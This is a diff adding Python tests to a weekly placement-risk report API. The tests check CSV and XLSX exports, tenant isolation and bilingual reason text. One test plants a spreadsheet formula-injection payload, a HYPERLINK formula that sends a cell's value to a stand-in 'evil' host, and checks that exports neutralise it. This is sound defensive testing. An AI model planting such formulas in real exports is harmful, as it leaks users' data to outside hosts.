@@ -1,5 +1,6 @@
 """GET /api/v1/reports/weekly: bad weeks are 422 on `week`, scopes follow the key, downloads open, at-risk rows."""
 
+import csv
 import io
 import json
 from datetime import UTC, datetime, timedelta
@@ -146,3 +147,73 @@ def test_at_risk_lists_flagged_active_placements_and_answers_of_the_week(client,
     assert "name" not in json.dumps(items[0]).replace("_name", "")  # no worker names in the list
     other = client.get(URL, params={"week": h.WEEK}, headers=tenants["other_county"].headers).json()["at_risk"]
     assert other["items"] == []  # another county's flags stay behind its wall
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&C2,"点击")'
+
+
+def test_a_formula_in_a_vacancy_title_stays_text_in_the_downloads(client, tenants, history, db):
+    employer = tenants["employer"]
+    resp = client.patch(
+        f"/api/v1/vacancies/{history.vacancies['east']}", json={"title": FORMULA}, headers=employer.headers
+    )
+    assert resp.status_code == 200, resp.text
+    with db.session() as session, session.begin():
+        session.execute(
+            insert(PlacementRisk),
+            {
+                "placement_id": history.placements["last_sunday"],
+                "risk_30": 0.4,
+                "risk_90": 0.8,
+                "risk_180": 0.9,
+                "reasons": [],
+                "action": "call",
+                "model_version": "test-1",
+                "scored_at": datetime(2025, 3, 9, 15, 59, tzinfo=UTC),
+            },
+        )
+    params = {"week": h.WEEK, "format": "xlsx"}
+    wb = load_workbook(io.BytesIO(client.get(URL, params=params, headers=employer.headers).content))
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
+    titles = [c for c in cells if c.value == FORMULA]
+    assert titles and all(c.data_type == "s" for c in titles)
+    assert any(c.data_type == "n" and c.value == 0.8 for c in cells)  # numbers stay numbers
+    text = client.get(URL, params={**params, "format": "csv"}, headers=employer.headers).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    values = [r[-1] for r in rows if r[-2] == "vacancy_title"]
+    assert values == ["'" + FORMULA]
+    assert [r[-1] for r in rows if r[-2] == "risk_90"] == ["0.8"]
+
+
+def test_reasons_read_as_words_and_an_employer_does_not_see_a_workers_history_elsewhere(client, tenants, history, db):
+    reasons = [
+        {"code": "wage_gap", "zh": "工资低于期望", "en": "pay below what was expected"},
+        {"code": "prior_quit_wage", "zh": "以前因工资离职", "en": "left an earlier job over pay"},
+    ]
+    with db.session() as session, session.begin():
+        session.execute(
+            insert(PlacementRisk),
+            {
+                "placement_id": history.placements["last_sunday"],
+                "risk_30": 0.4,
+                "risk_90": 0.8,
+                "risk_180": 0.9,
+                "reasons": reasons,
+                "action": "call",
+                "model_version": "test-1",
+                "scored_at": datetime(2025, 3, 9, 15, 59, tzinfo=UTC),
+            },
+        )
+    province = tenants["province"].headers
+    (item,) = client.get(URL, params={"week": h.WEEK}, headers=province).json()["at_risk"]["items"]
+    assert item["reasons"] == reasons
+    words = "工资低于期望 / pay below what was expected; 以前因工资离职 / left an earlier job over pay"
+    csv_text = client.get(URL, params={"week": h.WEEK, "format": "csv"}, headers=province).content.decode("utf-8-sig")
+    assert [r[-1] for r in csv.reader(io.StringIO(csv_text)) if r[-2] == "reasons"] == [words]
+    client.post("/reports/weekly/sign-in", data={"api_key": tenants["province"].key})
+    html = client.get("/reports/weekly", params={"week": h.WEEK}).text
+    assert words in html and "{&#39;code&#39;" not in html and "'code'" not in html
+    employer = tenants["employer"].headers
+    (item,) = client.get(URL, params={"week": h.WEEK}, headers=employer).json()["at_risk"]["items"]
+    assert [r["code"] for r in item["reasons"]] == ["wage_gap"]
